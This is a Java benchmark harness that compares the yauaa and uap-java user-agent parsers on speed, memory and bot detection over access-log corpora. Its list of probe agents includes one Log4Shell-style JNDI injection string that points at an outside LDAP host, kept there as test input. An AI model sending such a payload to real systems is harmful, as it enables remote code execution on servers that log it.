package io.logpulse.ingest.enrich.bench;

import io.logpulse.ingest.parse.AccessLogParser;
import io.logpulse.ingest.parse.LineContext;
import io.logpulse.ingest.parse.ParseResult;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.Function;
import nl.basjes.parse.useragent.UserAgent;
import nl.basjes.parse.useragent.UserAgentAnalyzer;
import ua_parser.Client;
import ua_parser.Parser;

/**
 * Bench harness (not a unit test, not run by Surefire) that chose the user-agent library of {@link
 * io.logpulse.ingest.enrich.UserAgentEnricher}: yauaa vs ua-parser (uap-java), over the distinct
 * user agents of the nginx-combined-ployt0 and apache-combined-elastic corpora.
 *
 * <p>Run one library per JVM, so that start-up time and heap are measured alone:
 *
 * <pre>
 * ./mvnw -o -B -q test-compile -pl ingest-streams -am
 * ./mvnw -o -B -q dependency:build-classpath -pl ingest-streams -Dmdep.outputFile=/tmp/cp.txt
 * java -cp ingest-streams/target/test-classes:ingest-streams/target/classes:$(cat /tmp/cp.txt) \
 *   io.logpulse.ingest.enrich.bench.UserAgentParserBenchmark yauaa ../shared
 * (same with uap)
 * </pre>
 *
 * <p>Prints: start-up time and retained heap of the parser; the first (cold, JIT not warm, no
 * cache) pass over all distinct agents and a later warm pass without cache, in microseconds per
 * agent; and the fields each library gives for a list of bots, tools and browsers.
 */
public final class UserAgentParserBenchmark {

  private static final List<String> PROBES =
      List.of(
          "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
          "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
          "curl/7.68.0",
          "python-requests/2.28.1",
          "Mozilla/5.0 zgrab/0.x",
          "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
          "Go-http-client/1.1",
          "Wget/1.21.2",
          "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
          "${jndi:ldap://45.1.2.3:1389/Exploit}",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
              + " Chrome/120.0.6099.109 Safari/537.36",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15"
              + " (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1");

  private UserAgentParserBenchmark() {}

  /**
   * @param args {@code yauaa} or {@code uap}, then the shared directory (default {@code ../shared})
   * @throws IOException when a corpus cannot be read
   */
  public static void main(String[] args) throws IOException {
    String library = args.length > 0 ? args[0] : "yauaa";
    Path shared = Paths.get(args.length > 1 ? args[1] : "../shared");
    List<String> agents = distinctAgents(shared);
    System.out.printf(Locale.ROOT, "%d distinct user agents%n", agents.size());

    long heapBefore = usedHeapAfterGc();
    long start = System.nanoTime();
    Function<String, List<String>> parser;
    Function<String, Boolean> isBot;
    if (library.equals("yauaa")) {
      UserAgentAnalyzer analyzer =
          UserAgentAnalyzer.newBuilder()
              .withoutCache()
              .hideMatcherLoadStats()
              .immediateInitialization()
              .withField(UserAgent.AGENT_NAME)
              .withField(UserAgent.AGENT_VERSION)
              .withField(UserAgent.OPERATING_SYSTEM_NAME)
              .withField(UserAgent.OPERATING_SYSTEM_VERSION)
              .withField(UserAgent.DEVICE_NAME)
              .withField(UserAgent.DEVICE_CLASS)
              .withField(UserAgent.AGENT_CLASS)
              .build();
      parser =
          agent -> {
            UserAgent parsed = analyzer.parse(agent);
            return List.of(
                parsed.getValue(UserAgent.AGENT_NAME),
                parsed.getValue(UserAgent.AGENT_VERSION),
                parsed.getValue(UserAgent.OPERATING_SYSTEM_NAME),
                parsed.getValue(UserAgent.OPERATING_SYSTEM_VERSION),
                parsed.getValue(UserAgent.DEVICE_NAME),
                parsed.getValue(UserAgent.DEVICE_CLASS),
                parsed.getValue(UserAgent.AGENT_CLASS));
          };
      isBot =
          agent -> {
            List<String> fields = parser.apply(agent);
            String deviceClass = fields.get(5);
            String agentClass = fields.get(6);
            return deviceClass.startsWith("Robot")
                || deviceClass.equals("Hacker")
                || agentClass.startsWith("Robot")
                || agentClass.equals("Hacker")
                || agentClass.equals("Special");
          };
    } else {
      Parser uap = new Parser();
      parser =
          agent -> {
            Client client = uap.parse(agent);
            return List.of(
                String.valueOf(client.userAgent.family),
                client.userAgent.major + "." + client.userAgent.minor + "." + client.userAgent.patch,
                String.valueOf(client.os.family),
                client.os.major + "." + client.os.minor,
                String.valueOf(client.device.family));
          };
      isBot = agent -> "Spider".equals(uap.parse(agent).device.family);
    }
    long startupNanos = System.nanoTime() - start;
    long heapAfter = usedHeapAfterGc();
    System.out.printf(
        Locale.ROOT,
        "%s: start-up %.2f s, retained heap %.1f MB%n",
        library,
        startupNanos / 1e9,
        (heapAfter - heapBefore) / 1e6);

    for (int pass = 1; pass <= 10; pass++) {
      long passStart = System.nanoTime();
      int checksum = 0;
      for (String agent : agents) {
        checksum += parser.apply(agent).hashCode();
      }
      long nanos = System.nanoTime() - passStart;
      System.out.printf(
          Locale.ROOT,
          "pass %d: %.1f us per agent (total %.0f ms, checksum %d)%n",
          pass,
          nanos / 1e3 / agents.size(),
          nanos / 1e6,
          checksum);
    }

    long[] perAgent = new long[agents.size()];
    for (int index = 0; index < perAgent.length; index++) {
      long agentStart = System.nanoTime();
      parser.apply(agents.get(index));
      perAgent[index] = System.nanoTime() - agentStart;
    }
    java.util.Arrays.sort(perAgent);
    System.out.printf(
        Locale.ROOT,
        "warm, uncached, per agent: p50 %.1f us, p90 %.1f us, p99 %.1f us, max %.1f us%n",
        perAgent[perAgent.length / 2] / 1e3,
        perAgent[perAgent.length * 9 / 10] / 1e3,
        perAgent[perAgent.length * 99 / 100] / 1e3,
        perAgent[perAgent.length - 1] / 1e3);
    int bots = 0;
    for (String agent : agents) {
      bots += isBot.apply(agent) ? 1 : 0;
    }
    System.out.printf(Locale.ROOT, "bots among distinct agents: %d of %d%n", bots, agents.size());
    for (String probe : PROBES) {
      System.out.printf(
          Locale.ROOT, "%-5s %s%n      <- %s%n", isBot.apply(probe) ? "BOT" : "-", parser.apply(probe), probe);
    }
    if (args.length > 2 && args[2].equals("dump")) {
      for (String agent : agents) {
        System.out.printf(
            Locale.ROOT, "%-5s %s <- %s%n", isBot.apply(agent) ? "BOT" : "-", parser.apply(agent), agent);
      }
    }
  }

  private static List<String> distinctAgents(Path shared) throws IOException {
    AccessLogParser logParser = new AccessLogParser(8192);
    LineContext context = new LineContext("bench", null, false);
    Set<String> agents = new LinkedHashSet<>();
    for (String file :
        List.of("data/nginx-combined-ployt0/access.log", "data/apache-combined-elastic/apache_logs")) {
      String text = new String(Files.readAllBytes(shared.resolve(file)), StandardCharsets.UTF_8);
      for (String line : text.split("\n")) {
        if (logParser.parse(line, context) instanceof ParseResult.Parsed parsed
            && parsed.event().getUserAgentOriginal() != null) {
          agents.add(parsed.event().getUserAgentOriginal());
        }
      }
    }
    return new ArrayList<>(agents);
  }

  private static long usedHeapAfterGc() {
    for (int round = 0; round < 3; round++) {
      System.gc();
    }
    return ManagementFactory.getMemoryMXBean().getHeapMemoryUsage().getUsed();
  }
}
